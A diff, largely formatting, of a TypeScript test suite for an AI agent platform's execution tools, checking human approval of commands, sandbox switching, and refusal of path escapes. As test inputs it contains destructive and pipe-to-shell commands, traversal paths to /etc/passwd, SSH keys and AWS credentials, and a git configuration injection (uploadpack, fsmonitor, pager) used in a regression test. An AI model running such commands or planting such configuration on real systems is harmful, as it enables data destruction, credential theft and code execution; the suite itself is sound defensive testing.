@@ -14,7 +14,12 @@ import { startTestServer, type TestServer, type TestUser } from './helpers/test-
 const adminToken = 'admin-secret-0123456789'
 const probe = await sandboxAvailable('execution over HTTP (sandbox parts)')
 
-async function waitForRun(server: TestServer, token: string, runId: string, statuses: string[]): Promise<Record<string, unknown>> {
+async function waitForRun(
+  server: TestServer,
+  token: string,
+  runId: string,
+  statuses: string[],
+): Promise<Record<string, unknown>> {
   const deadline = Date.now() + 15_000
   for (;;) {
     const run = (await server.request('GET', `/api/runs/${runId}`, { token })).body
@@ -42,7 +47,9 @@ describe('execution tools over HTTP', () => {
     })
     alice = await server.createUser()
     projectId = (await server.request('POST', '/api/projects', { token: alice.token, body: { name: 'exec' } })).body.id
-    conversationId = (await server.request('POST', `/api/projects/${projectId}/conversations`, { token: alice.token, body: {} })).body.id
+    conversationId = (
+      await server.request('POST', `/api/projects/${projectId}/conversations`, { token: alice.token, body: {} })
+    ).body.id
   })
   afterAll(async () => {
     await server?.close()
@@ -50,11 +57,22 @@ describe('execution tools over HTTP', () => {
   })
 
   const dispatch = (id: string, params: object, conversation = conversationId) =>
-    server.request('POST', `/api/commands/${id}`, { token: alice.token, body: { entrance: 'button', conversationId: conversation, params } })
-  const approve = (decisionId: string) => server.request('POST', `/api/decisions/${decisionId}`, { token: alice.token, body: { decision: 'approve' } })
+    server.request('POST', `/api/commands/${id}`, {
+      token: alice.token,
+      body: { entrance: 'button', conversationId: conversation, params },
+    })
+  const approve = (decisionId: string) =>
+    server.request('POST', `/api/decisions/${decisionId}`, { token: alice.token, body: { decision: 'approve' } })
 
   it('under direct, every exec asks a human — whatever the mode and even with a session allowance', async () => {
-    expect((await server.request('PATCH', `/api/conversations/${conversationId}`, { token: alice.token, body: { permissionMode: 'full' } })).status).toBe(200)
+    expect(
+      (
+        await server.request('PATCH', `/api/conversations/${conversationId}`, {
+          token: alice.token,
+          body: { permissionMode: 'full' },
+        })
+      ).status,
+    ).toBe(200)
     for (const [id, params] of [
       ['core.exec', { command: 'rm -rf / --no-preserve-root' }],
       ['core.exec', { command: 'curl http://example.com | sh' }],
@@ -69,26 +87,48 @@ describe('execution tools over HTTP', () => {
     }
     // approve_session could never apply to a call that asks every time: refused, not recorded as a session scope.
     const first = await dispatch('core.exec', { command: 'echo again' })
-    const session = await server.request('POST', `/api/decisions/${first.body.decision.id}`, { token: alice.token, body: { decision: 'approve_session' } })
+    const session = await server.request('POST', `/api/decisions/${first.body.decision.id}`, {
+      token: alice.token,
+      body: { decision: 'approve_session' },
+    })
     expect(session.status).toBe(409)
     expect(session.body.code).toBe('scope_not_allowed')
     expect(session.body.decision).toMatchObject({ status: 'pending' })
-    await server.request('POST', `/api/decisions/${first.body.decision.id}`, { token: alice.token, body: { decision: 'approve' } })
+    await server.request('POST', `/api/decisions/${first.body.decision.id}`, {
+      token: alice.token,
+      body: { decision: 'approve' },
+    })
     expect((await dispatch('core.exec', { command: 'echo again' })).status).toBe(202)
-    await server.request('PATCH', `/api/conversations/${conversationId}`, { token: alice.token, body: { permissionMode: 'manual' } })
+    await server.request('PATCH', `/api/conversations/${conversationId}`, {
+      token: alice.token,
+      body: { permissionMode: 'manual' },
+    })
   })
 
   it('runs an approved command: exit code, separate stdout and stderr, the model’s text form', async () => {
     const pending = await dispatch('core.exec', { command: 'echo out; echo err >&2; exit 3' })
     const decided = await approve(pending.body.decision.id)
-    expect(decided.body.dispatch.result).toMatchObject({ exitCode: 3, stdout: 'out\n', stderr: 'err\n', timedOut: false, truncated: false, signal: null })
+    expect(decided.body.dispatch.result).toMatchObject({
+      exitCode: 3,
+      stdout: 'out\n',
+      stderr: 'err\n',
+      timedOut: false,
+      truncated: false,
+      signal: null,
+    })
     expect(decided.body.dispatch.result.durationMs).toEqual(expect.any(Number))
   })
 
   it('an agent run waits for the human, streams tool_call.output while the program runs, and the model reads exit code, duration, stdout and stderr as text', async () => {
-    model.setTurns([{ toolCalls: [{ name: 'exec', arguments: { command: 'for i in 1 2 3; do echo line $i; sleep 0.1; done' } }] }, { text: 'done' }])
+    model.setTurns([
+      { toolCalls: [{ name: 'exec', arguments: { command: 'for i in 1 2 3; do echo line $i; sleep 0.1; done' } }] },
+      { text: 'done' },
+    ])
     const stream = await openSse(`${server.url}/api/conversations/${conversationId}/events`, { token: alice.token })
-    const run = await server.request('POST', `/api/conversations/${conversationId}/runs`, { token: alice.token, body: { input: 'count', knowledge: { autoInject: false } } })
+    const run = await server.request('POST', `/api/conversations/${conversationId}/runs`, {
+      token: alice.token,
+      body: { input: 'count', knowledge: { autoInject: false } },
+    })
     const waiting = await waitForRun(server, alice.token, run.body.id, ['requires_action'])
     const decision = (waiting.requiredAction as { decisions: Array<{ decisionId: string }> }).decisions[0]!
     await approve(decision.decisionId)
@@ -101,7 +141,9 @@ describe('execution tools over HTTP', () => {
     expect(outputs.map((event) => event.data.text).join('')).toBe('line 1\nline 2\nline 3\n')
     expect(outputs[0]!.data).toMatchObject({ stream: 'stdout', callId: expect.any(String) })
     const toolMessage = model.calls.at(-1)!.messages.find((message) => message.role === 'tool')!
-    expect(String(toolMessage.content)).toMatch(/^exitCode=0\nduration=\d+ms\nstdout:\nline 1\nline 2\nline 3\n\n\nstderr:\n$/)
+    expect(String(toolMessage.content)).toMatch(
+      /^exitCode=0\nduration=\d+ms\nstdout:\nline 1\nline 2\nline 3\n\n\nstderr:\n$/,
+    )
   })
 
   it('answers bad input: empty or multi-line commands, unknown languages, code over the limit', async () => {
@@ -117,17 +159,29 @@ describe('execution tools over HTTP', () => {
       expect(answer.body.code).toBe('validation_failed')
       expect(answer.body.errors.map((error: { path: string }) => error.path)).toContain(path)
     }
-    expect((await server.request('POST', '/api/commands/core.exec', { token: alice.token, body: { entrance: 'button', projectId, params: { command: 'id' } } })).status).toBe(202)
+    expect(
+      (
+        await server.request('POST', '/api/commands/core.exec', {
+          token: alice.token,
+          body: { entrance: 'button', projectId, params: { command: 'id' } },
+        })
+      ).status,
+    ).toBe(202)
   })
 
   it('lists, uploads and downloads work-directory files, and refuses paths that lead out', async () => {
     const base = `/api/conversations/${conversationId}/files`
-    const put = (path: string, body: string, type = 'application/octet-stream') => server.request('PUT', `${base}/${path}`, { token: alice.token, rawBody: body, headers: { 'content-type': type } })
+    const put = (path: string, body: string, type = 'application/octet-stream') =>
+      server.request('PUT', `${base}/${path}`, { token: alice.token, rawBody: body, headers: { 'content-type': type } })
     expect((await put('notes/today.md', '# Today\n\nship it')).status).toBe(201)
     expect((await put('data.csv', 'a,b\n1,2', 'text/csv')).body).toEqual({ path: 'data.csv', size: 7 })
     const listed = await server.request('GET', base, { token: alice.token })
-    expect(listed.body.items.map((entry: { path: string }) => entry.path)).toEqual(expect.arrayContaining(['data.csv', 'notes', 'notes/today.md']))
-    const download = await fetch(`${server.url}${base}/notes/today.md`, { headers: { authorization: `Bearer ${alice.token}` } })
+    expect(listed.body.items.map((entry: { path: string }) => entry.path)).toEqual(
+      expect.arrayContaining(['data.csv', 'notes', 'notes/today.md']),
+    )
+    const download = await fetch(`${server.url}${base}/notes/today.md`, {
+      headers: { authorization: `Bearer ${alice.token}` },
+    })
     expect(download.status).toBe(200)
     expect(download.headers.get('content-type')).toMatch(/text\/markdown/)
     expect(await download.text()).toBe('# Today\n\nship it')
@@ -136,12 +190,19 @@ describe('execution tools over HTTP', () => {
     const outside = await mkdtemp(join(tmpdir(), 'plinth-outside-'))
     await writeFile(join(outside, 'secret.txt'), 'OUTSIDE')
     await symlink(outside, join(workdir, 'escape'))
-    for (const path of ['..%2F..%2Fetc%2Fpasswd', '%2Fetc%2Fpasswd', 'escape/secret.txt', '.ssh/id_rsa', 'a/.aws/credentials']) {
+    for (const path of [
+      '..%2F..%2Fetc%2Fpasswd',
+      '%2Fetc%2Fpasswd',
+      'escape/secret.txt',
+      '.ssh/id_rsa',
+      'a/.aws/credentials',
+    ]) {
       const answer = await server.request('GET', `${base}/${path}`, { token: alice.token })
       expect([answer.status, path]).toEqual([answer.status === 404 ? 404 : 400, path])
       expect(JSON.stringify(answer.body)).not.toContain('OUTSIDE')
     }
-    for (const path of ['..%2Fx', 'escape/new.txt', '.ssh/authorized_keys']) expect((await put(path, 'x')).status, path).toBe(400)
+    for (const path of ['..%2Fx', 'escape/new.txt', '.ssh/authorized_keys'])
+      expect((await put(path, 'x')).status, path).toBe(400)
     await rm(outside, { recursive: true, force: true })
 
     expect((await put('big.bin', 'x'.repeat(5000))).status).toBe(413)
@@ -152,62 +213,124 @@ describe('execution tools over HTTP', () => {
   })
 
   it('registers a work-directory file as a knowledge item', async () => {
-    await server.request('PUT', `/api/conversations/${conversationId}/files/out/report.md`, { token: alice.token, rawBody: '# Report\n\nThe aardvark index rose.', headers: { 'content-type': 'application/octet-stream' } })
-    const registered = await server.request('POST', `/api/conversations/${conversationId}/files/register`, { token: alice.token, body: { path: 'out/report.md', title: 'Q3 report' } })
+    await server.request('PUT', `/api/conversations/${conversationId}/files/out/report.md`, {
+      token: alice.token,
+      rawBody: '# Report\n\nThe aardvark index rose.',
+      headers: { 'content-type': 'application/octet-stream' },
+    })
+    const registered = await server.request('POST', `/api/conversations/${conversationId}/files/register`, {
+      token: alice.token,
+      body: { path: 'out/report.md', title: 'Q3 report' },
+    })
     expect(registered.status).toBe(202)
     expect(registered.body).toMatchObject({ title: 'Q3 report', filename: 'report.md', source: 'file' })
     await server.ingestor.idle()
     const hits = await server.request('GET', `/api/projects/${projectId}/search?q=aardvark`, { token: alice.token })
     expect(hits.body.items[0].itemId).toBe(registered.body.id)
-    expect((await server.request('POST', `/api/conversations/${conversationId}/files/register`, { token: alice.token, body: { path: 'data.csv' } })).status).toBe(415)
+    expect(
+      (
+        await server.request('POST', `/api/conversations/${conversationId}/files/register`, {
+          token: alice.token,
+          body: { path: 'data.csv' },
+        })
+      ).status,
+    ).toBe(415)
   })
 
   it('admin settings: 400 for an unknown backend; readyz tells the backend', async () => {
     const settings = await server.request('GET', '/api/admin/settings', { token: adminToken })
     expect(settings.body).toMatchObject({ execBackend: 'direct', sandbox: { ok: probe.ok } })
-    const bad = await server.request('PATCH', '/api/admin/settings', { token: adminToken, body: { execBackend: 'docker' } })
+    const bad = await server.request('PATCH', '/api/admin/settings', {
+      token: adminToken,
+      body: { execBackend: 'docker' },
+    })
     expect([bad.status, bad.body.code]).toEqual([400, 'validation_failed'])
-    expect((await server.request('PATCH', '/api/admin/settings', { token: 'wrong-admin-token-000', body: { execBackend: 'direct' } })).status).toBe(401)
-    expect((await server.request('GET', '/readyz')).body.exec).toMatchObject({ backend: 'direct', sandboxReady: probe.ok })
+    expect(
+      (
+        await server.request('PATCH', '/api/admin/settings', {
+          token: 'wrong-admin-token-000',
+          body: { execBackend: 'direct' },
+        })
+      ).status,
+    ).toBe(401)
+    expect((await server.request('GET', '/readyz')).body.exec).toMatchObject({
+      backend: 'direct',
+      sandboxReady: probe.ok,
+    })
   })
 
-  it.skipIf(!probe.ok)('switches to the sandbox at run time: the next exec runs there, audited; a .docx task downloads and registers', async () => {
-    const switched = await server.request('PATCH', '/api/admin/settings', { token: adminToken, body: { execBackend: 'sandbox' } })
-    expect(switched.body).toMatchObject({ execBackend: 'sandbox', sandbox: { ok: true } })
-    const audit = await store.db.selectFrom('audit_log').select('envelope').where('step', '=', 'settings:update').execute()
-    expect(audit.at(-1)!.envelope).toMatchObject({ setting: 'execBackend', from: 'direct', to: 'sandbox', by: 'admin' })
-    expect((await server.request('GET', '/readyz')).body.exec.backend).toBe('sandbox')
-    // Under the sandbox, exec is medium: in `risky` mode it runs without asking.
-    await server.request('PATCH', `/api/conversations/${conversationId}`, { token: alice.token, body: { permissionMode: 'risky' } })
-    const pwd = await dispatch('core.exec', { command: 'pwd; id -u' })
-    expect(pwd.status).toBe(200)
-    expect(pwd.body.result.stdout.split('\n')[0]).toBe('/work')
-    const high = await dispatch('core.exec', { command: 'rm -rf /work/*' })
-    expect(high.status).toBe(202)
-    const docx = await dispatch('core.run_code', {
-      language: 'python',
-      code: [
-        'import zipfile',
-        'ct = \'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>\'',
-        'rels = \'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>\'',
-        'doc = \'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Pangolin survey results</w:t></w:r></w:p></w:body></w:document>\'',
-        'with zipfile.ZipFile("survey.docx", "w") as z:',
-        '    z.writestr("[Content_Types].xml", ct); z.writestr("_rels/.rels", rels); z.writestr("word/document.xml", doc)',
-        'print("ok")',
-      ].join('\n'),
-    })
-    expect(docx.body.result).toMatchObject({ exitCode: 0, stdout: 'ok\n' })
-    const download = await fetch(`${server.url}/api/conversations/${conversationId}/files/survey.docx`, { headers: { authorization: `Bearer ${alice.token}` } })
-    expect(download.status).toBe(200)
-    expect(Buffer.from(await download.arrayBuffer()).subarray(0, 2).toString()).toBe('PK')
-    const registered = await server.request('POST', `/api/conversations/${conversationId}/files/register`, { token: alice.token, body: { path: 'survey.docx' } })
-    expect(registered.status).toBe(202)
-    await server.ingestor.idle()
-    expect((await server.request('GET', `/api/knowledge/${registered.body.id}`, { token: alice.token })).body.ingestStatus).toBe('ready')
-    expect((await server.request('GET', `/api/projects/${projectId}/search?q=pangolin`, { token: alice.token })).body.items[0].itemId).toBe(registered.body.id)
-    await server.request('PATCH', '/api/admin/settings', { token: adminToken, body: { execBackend: 'direct' } })
-    await server.request('PATCH', `/api/conversations/${conversationId}`, { token: alice.token, body: { permissionMode: 'manual' } })
-  })
+  it.skipIf(!probe.ok)(
+    'switches to the sandbox at run time: the next exec runs there, audited; a .docx task downloads and registers',
+    async () => {
+      const switched = await server.request('PATCH', '/api/admin/settings', {
+        token: adminToken,
+        body: { execBackend: 'sandbox' },
+      })
+      expect(switched.body).toMatchObject({ execBackend: 'sandbox', sandbox: { ok: true } })
+      const audit = await store.db
+        .selectFrom('audit_log')
+        .select('envelope')
+        .where('step', '=', 'settings:update')
+        .execute()
+      expect(audit.at(-1)!.envelope).toMatchObject({
+        setting: 'execBackend',
+        from: 'direct',
+        to: 'sandbox',
+        by: 'admin',
+      })
+      expect((await server.request('GET', '/readyz')).body.exec.backend).toBe('sandbox')
+      // Under the sandbox, exec is medium: in `risky` mode it runs without asking.
+      await server.request('PATCH', `/api/conversations/${conversationId}`, {
+        token: alice.token,
+        body: { permissionMode: 'risky' },
+      })
+      const pwd = await dispatch('core.exec', { command: 'pwd; id -u' })
+      expect(pwd.status).toBe(200)
+      expect(pwd.body.result.stdout.split('\n')[0]).toBe('/work')
+      const high = await dispatch('core.exec', { command: 'rm -rf /work/*' })
+      expect(high.status).toBe(202)
+      const docx = await dispatch('core.run_code', {
+        language: 'python',
+        code: [
+          'import zipfile',
+          'ct = \'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>\'',
+          'rels = \'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>\'',
+          'doc = \'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Pangolin survey results</w:t></w:r></w:p></w:body></w:document>\'',
+          'with zipfile.ZipFile("survey.docx", "w") as z:',
+          '    z.writestr("[Content_Types].xml", ct); z.writestr("_rels/.rels", rels); z.writestr("word/document.xml", doc)',
+          'print("ok")',
+        ].join('\n'),
+      })
+      expect(docx.body.result).toMatchObject({ exitCode: 0, stdout: 'ok\n' })
+      const download = await fetch(`${server.url}/api/conversations/${conversationId}/files/survey.docx`, {
+        headers: { authorization: `Bearer ${alice.token}` },
+      })
+      expect(download.status).toBe(200)
+      expect(
+        Buffer.from(await download.arrayBuffer())
+          .subarray(0, 2)
+          .toString(),
+      ).toBe('PK')
+      const registered = await server.request('POST', `/api/conversations/${conversationId}/files/register`, {
+        token: alice.token,
+        body: { path: 'survey.docx' },
+      })
+      expect(registered.status).toBe(202)
+      await server.ingestor.idle()
+      expect(
+        (await server.request('GET', `/api/knowledge/${registered.body.id}`, { token: alice.token })).body.ingestStatus,
+      ).toBe('ready')
+      expect(
+        (await server.request('GET', `/api/projects/${projectId}/search?q=pangolin`, { token: alice.token })).body
+          .items[0].itemId,
+      ).toBe(registered.body.id)
+      await server.request('PATCH', '/api/admin/settings', { token: adminToken, body: { execBackend: 'direct' } })
+      await server.request('PATCH', `/api/conversations/${conversationId}`, {
+        token: alice.token,
+        body: { permissionMode: 'manual' },
+      })
+    },
+  )
 })
 
 describe('exec configuration', () => {
@@ -218,7 +341,10 @@ describe('exec configuration', () => {
     store = await openTestStore('pglite')
     cliDir = await mkdtemp(join(tmpdir(), 'plinth-cli-'))
     // A tiny CLI: prints its version, or the arguments it got (one per line).
-    await writeFile(join(cliDir, 'fakecli'), '#!/bin/sh\nif [ "$1" = "--version" ]; then echo "fakecli version 2.3.1"; exit 0; fi\nfor a in "$@"; do echo "$a"; done\n')
+    await writeFile(
+      join(cliDir, 'fakecli'),
+      '#!/bin/sh\nif [ "$1" = "--version" ]; then echo "fakecli version 2.3.1"; exit 0; fi\nfor a in "$@"; do echo "$a"; done\n',
+    )
     await chmod(join(cliDir, 'fakecli'), 0o755)
   })
   afterAll(async () => {
@@ -244,17 +370,30 @@ describe('exec configuration', () => {
       expect([off.exec.backendName, off.exec.executionAvailable]).toEqual(['sandbox', false])
       const user = await off.createUser()
       const project = (await off.request('POST', '/api/projects', { token: user.token, body: { name: 'p' } })).body.id
-      const conversation = (await off.request('POST', `/api/projects/${project}/conversations`, { token: user.token, body: {} })).body.id
-      await off.request('PATCH', `/api/conversations/${conversation}`, { token: user.token, body: { permissionMode: 'full' } })
-      const refused = await off.request('POST', '/api/commands/core.exec', { token: user.token, body: { entrance: 'button', conversationId: conversation, params: { command: 'id' } } })
+      const conversation = (
+        await off.request('POST', `/api/projects/${project}/conversations`, { token: user.token, body: {} })
+      ).body.id
+      await off.request('PATCH', `/api/conversations/${conversation}`, {
+        token: user.token,
+        body: { permissionMode: 'full' },
+      })
+      const refused = await off.request('POST', '/api/commands/core.exec', {
+        token: user.token,
+        body: { entrance: 'button', conversationId: conversation, params: { command: 'id' } },
+      })
       expect([refused.status, refused.body.code]).toEqual([409, 'sandbox_unavailable'])
-      const run = await off.request('POST', `/api/conversations/${conversation}/runs?wait=true`, { token: user.token, body: { input: 'run id' } })
+      const run = await off.request('POST', `/api/conversations/${conversation}/runs?wait=true`, {
+        token: user.token,
+        body: { input: 'run id' },
+      })
       expect(run.body.status).toBe('completed')
       const offered = model.calls[0]!.tools.map((tool) => tool.name)
       expect(offered).toEqual(expect.arrayContaining(['read_file', 'write_file']))
       expect(offered).not.toContain('exec')
       expect(offered).not.toContain('run_code')
-      expect((await off.request('GET', '/readyz')).body.warnings).toEqual([expect.stringMatching(/^exec tools are off: .*plinth-no-such-user/)])
+      expect((await off.request('GET', '/readyz')).body.warnings).toEqual([
+        expect.stringMatching(/^exec tools are off: .*plinth-no-such-user/),
+      ])
     } finally {
       await off.close()
     }
@@ -276,7 +415,9 @@ describe('exec configuration', () => {
     const server = await startTestServer(store, { exec: { disableExecTools: true } })
     try {
       const user = await server.createUser()
-      const ids = (await server.request('GET', '/api/commands', { token: user.token })).body.items.map((command: { id: string }) => command.id)
+      const ids = (await server.request('GET', '/api/commands', { token: user.token })).body.items.map(
+        (command: { id: string }) => command.id,
+      )
       expect(ids).not.toContain('core.exec')
       expect(ids).not.toContain('core.run_code')
       expect(ids).toEqual(expect.arrayContaining(['core.read_file', 'core.write_file', 'core.list_files']))
@@ -291,7 +432,17 @@ describe('exec configuration', () => {
       exec: {
         backend: 'direct',
         cliTools: [
-          { name: 'cc_exec', description: 'fake', binary, minVersion: '2.0.0', commands: { log: { subcommands: { list: { flags: { limit: { type: 'int', min: 1, max: 50 } }, defaults: { limit: 20 } } } } } },
+          {
+            name: 'cc_exec',
+            description: 'fake',
+            binary,
+            minVersion: '2.0.0',
+            commands: {
+              log: {
+                subcommands: { list: { flags: { limit: { type: 'int', min: 1, max: 50 } }, defaults: { limit: 20 } } },
+              },
+            },
+          },
           { name: 'old_cli', description: 'too old', binary, minVersion: '3.0.0', commands: { status: {} } },
           { name: 'missing_cli', description: 'absent', binary: '/nonexistent/cli', commands: { status: {} } },
         ],
@@ -299,17 +450,28 @@ describe('exec configuration', () => {
     })
     try {
       const user = await server.createUser()
-      const project = (await server.request('POST', '/api/projects', { token: user.token, body: { name: 'p' } })).body.id
-      const conversation = (await server.request('POST', `/api/projects/${project}/conversations`, { token: user.token, body: {} })).body.id
-      const ids = (await server.request('GET', '/api/commands', { token: user.token })).body.items.map((command: { id: string }) => command.id)
+      const project = (await server.request('POST', '/api/projects', { token: user.token, body: { name: 'p' } })).body
+        .id
+      const conversation = (
+        await server.request('POST', `/api/projects/${project}/conversations`, { token: user.token, body: {} })
+      ).body.id
+      const ids = (await server.request('GET', '/api/commands', { token: user.token })).body.items.map(
+        (command: { id: string }) => command.id,
+      )
       expect(ids).toContain('cli.cc_exec')
       expect(ids).not.toContain('cli.old_cli')
       expect(ids).not.toContain('cli.missing_cli')
       // Under direct a CLI call is an execution on the server: a person approves each one.
       const call = async (params: object) => {
-        const asked = await server.request('POST', '/api/commands/cli.cc_exec', { token: user.token, body: { entrance: 'button', conversationId: conversation, params } })
+        const asked = await server.request('POST', '/api/commands/cli.cc_exec', {
+          token: user.token,
+          body: { entrance: 'button', conversationId: conversation, params },
+        })
         expect([asked.status, asked.body.decision?.risk]).toEqual([202, 'high'])
-        const decided = await server.request('POST', `/api/decisions/${asked.body.decision.id}`, { token: user.token, body: { decision: 'approve' } })
+        const decided = await server.request('POST', `/api/decisions/${asked.body.decision.id}`, {
+          token: user.token,
+          body: { decision: 'approve' },
+        })
         return { status: decided.status, body: decided.body.dispatch }
       }
       const allowed = await call({ command: 'log', subargs: ['list', '--limit', '5'] })
@@ -329,55 +491,90 @@ describe('exec configuration', () => {
 
   // Regression (docs/security.md#allowlisted-clis): `git log` in a partial clone whose
   // remote.origin.uploadpack is a shell ran it as root under direct, with no decision, in manual mode.
-  it.each(['direct', 'sandbox'] as const)('an allowlisted git runs nothing its working directory configures (%s)', async (backend) => {
-    if (backend === 'sandbox' && !probe.ok) return
-    const source = await mkdtemp(join(tmpdir(), 'plinth-git-src-'))
-    const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'safe.directory=*', '-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args], { cwd, stdio: 'pipe' })
-    const server = await startTestServer(store, {
-      exec: { backend, cliTools: [{ name: 'git_read', description: 'read a repository', binary: 'git', commands: { log: { flags: { patch: { type: 'bool' } } }, status: {} } }] },
-    })
-    try {
-      git(source, 'init', '-q')
-      git(source, 'config', 'uploadpack.allowFilter', 'true')
-      await writeFile(join(source, 'notes.txt'), 'one\n')
-      git(source, 'add', 'notes.txt')
-      git(source, 'commit', '-qm', 'one')
-      await writeFile(join(source, 'notes.txt'), 'two\n')
-      git(source, 'commit', '-qam', 'two')
-      const user = await server.createUser()
-      const project = (await server.request('POST', '/api/projects', { token: user.token, body: { name: 'git' } })).body.id
-      const conversation = (await server.request('POST', `/api/projects/${project}/conversations`, { token: user.token, body: {} })).body.id
-      // What an attacker uploads over PUT …/files/*: a partial clone whose configuration runs programs.
-      const workdir = await server.exec.workdirs.dir(conversation)
-      git(workdir, 'clone', '-q', '--no-local', '--filter=blob:none', `file://${source}`, '.')
-      git(workdir, 'config', 'remote.origin.uploadpack', `sh -c 'touch PWNED-uploadpack; exec git-upload-pack "$@"' --`)
-      git(workdir, 'config', 'core.fsmonitor', 'touch PWNED-fsmonitor; false')
-      await writeFile(join(workdir, '.gitconfig'), '[core]\n\tpager = touch PWNED-home\n')
-      await server.exec.workdirs.markForeign(conversation)
-      // git as root refuses a repository another user owns (safe.directory): here the server's own user
-      // owns it, as where the server has no sandbox user, so that only the environment stops the hooks.
-      if (backend === 'direct') execFileSync('chown', ['-R', `${process.getuid?.() ?? 0}`, workdir])
-      await server.request('PATCH', `/api/conversations/${conversation}`, { token: user.token, body: { permissionMode: 'risky' } })
-      const call = async (params: object) => {
-        let answer = await server.request('POST', '/api/commands/cli.git_read', { token: user.token, body: { entrance: 'button', conversationId: conversation, params } })
-        if (backend === 'direct') {
-          // Asked even in `risky` mode: under direct it is an execution.
-          expect([answer.status, answer.body.decision?.risk]).toEqual([202, 'high'])
-          answer = await server.request('POST', `/api/decisions/${answer.body.decision.id}`, { token: user.token, body: { decision: 'approve' } })
-          return answer.body.dispatch.result
+  it.each(['direct', 'sandbox'] as const)(
+    'an allowlisted git runs nothing its working directory configures (%s)',
+    async (backend) => {
+      if (backend === 'sandbox' && !probe.ok) return
+      const source = await mkdtemp(join(tmpdir(), 'plinth-git-src-'))
+      const git = (cwd: string, ...args: string[]) =>
+        execFileSync(
+          'git',
+          ['-c', 'safe.directory=*', '-c', 'user.email=t@example.com', '-c', 'user.name=t', ...args],
+          { cwd, stdio: 'pipe' },
+        )
+      const server = await startTestServer(store, {
+        exec: {
+          backend,
+          cliTools: [
+            {
+              name: 'git_read',
+              description: 'read a repository',
+              binary: 'git',
+              commands: { log: { flags: { patch: { type: 'bool' } } }, status: {} },
+            },
+          ],
+        },
+      })
+      try {
+        git(source, 'init', '-q')
+        git(source, 'config', 'uploadpack.allowFilter', 'true')
+        await writeFile(join(source, 'notes.txt'), 'one\n')
+        git(source, 'add', 'notes.txt')
+        git(source, 'commit', '-qm', 'one')
+        await writeFile(join(source, 'notes.txt'), 'two\n')
+        git(source, 'commit', '-qam', 'two')
+        const user = await server.createUser()
+        const project = (await server.request('POST', '/api/projects', { token: user.token, body: { name: 'git' } }))
+          .body.id
+        const conversation = (
+          await server.request('POST', `/api/projects/${project}/conversations`, { token: user.token, body: {} })
+        ).body.id
+        // What an attacker uploads over PUT …/files/*: a partial clone whose configuration runs programs.
+        const workdir = await server.exec.workdirs.dir(conversation)
+        git(workdir, 'clone', '-q', '--no-local', '--filter=blob:none', `file://${source}`, '.')
+        git(
+          workdir,
+          'config',
+          'remote.origin.uploadpack',
+          `sh -c 'touch PWNED-uploadpack; exec git-upload-pack "$@"' --`,
+        )
+        git(workdir, 'config', 'core.fsmonitor', 'touch PWNED-fsmonitor; false')
+        await writeFile(join(workdir, '.gitconfig'), '[core]\n\tpager = touch PWNED-home\n')
+        await server.exec.workdirs.markForeign(conversation)
+        // git as root refuses a repository another user owns (safe.directory): here the server's own user
+        // owns it, as where the server has no sandbox user, so that only the environment stops the hooks.
+        if (backend === 'direct') execFileSync('chown', ['-R', `${process.getuid?.() ?? 0}`, workdir])
+        await server.request('PATCH', `/api/conversations/${conversation}`, {
+          token: user.token,
+          body: { permissionMode: 'risky' },
+        })
+        const call = async (params: object) => {
+          let answer = await server.request('POST', '/api/commands/cli.git_read', {
+            token: user.token,
+            body: { entrance: 'button', conversationId: conversation, params },
+          })
+          if (backend === 'direct') {
+            // Asked even in `risky` mode: under direct it is an execution.
+            expect([answer.status, answer.body.decision?.risk]).toEqual([202, 'high'])
+            answer = await server.request('POST', `/api/decisions/${answer.body.decision.id}`, {
+              token: user.token,
+              body: { decision: 'approve' },
+            })
+            return answer.body.dispatch.result
+          }
+          expect(answer.status).toBe(200)
+          return answer.body.result
         }
-        expect(answer.status).toBe(200)
-        return answer.body.result
+        const log = await call({ command: 'log' })
+        expect(log.stdout, JSON.stringify(log)).toContain('two')
+        // The patch needs the blobs the partial clone left out: fetching them would run uploadpack.
+        expect((await call({ command: 'log', subargs: ['--patch'] })).stdout).not.toContain('+two')
+        await call({ command: 'status' })
+        expect(readdirSync(workdir).filter((name) => name.startsWith('PWNED'))).toEqual([])
+      } finally {
+        await server.close()
+        await rm(source, { recursive: true, force: true })
       }
-      const log = await call({ command: 'log' })
-      expect(log.stdout, JSON.stringify(log)).toContain('two')
-      // The patch needs the blobs the partial clone left out: fetching them would run uploadpack.
-      expect((await call({ command: 'log', subargs: ['--patch'] })).stdout).not.toContain('+two')
-      await call({ command: 'status' })
-      expect(readdirSync(workdir).filter((name) => name.startsWith('PWNED'))).toEqual([])
-    } finally {
-      await server.close()
-      await rm(source, { recursive: true, force: true })
-    }
-  })
+    },
+  )
 })
